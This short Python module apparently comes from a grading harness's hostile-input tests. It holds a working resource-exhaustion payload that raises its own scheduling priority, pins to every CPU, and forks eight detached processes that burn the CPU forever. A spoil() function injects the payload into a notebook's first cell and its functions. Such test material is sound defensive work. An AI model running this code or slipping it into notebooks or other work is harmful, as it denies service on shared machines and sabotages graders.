"""Leave children behind that take all processors, with every priority there is."""

from assignments.hostile import first, replaced

ATTACK = """
import ctypes
import hashlib
import os
import threading

LIBC = ctypes.CDLL(None)

def burn():
    while True:
        hashlib.pbkdf2_hmac("sha256", b"x", b"x", 10**6)

def attack(*arguments, **options):
    attempts = [
        lambda: os.nice(-20),
        lambda: os.setpriority(os.PRIO_USER, 0, -20),
        lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(99)),
        lambda: os.sched_setscheduler(0, os.SCHED_RR, os.sched_param(99)),
        lambda: os.sched_setaffinity(0, range(os.cpu_count())),
        lambda: LIBC.syscall(251, 1, 0, 1 << 13),
    ]
    for attempt in attempts:
        try:
            attempt()
        except OSError:
            pass
    for _ in range(8):
        if os.fork() == 0:
            try:
                os.setsid()
                threading.Thread(target=burn, daemon=True).start()
                burn()
            finally:
                os._exit(0)
"""


def spoil(notebook, honest):
    """Burn in the first cell, and whenever another function is called."""
    return replaced(first(notebook, ATTACK + "\nattack()"), honest, ATTACK)
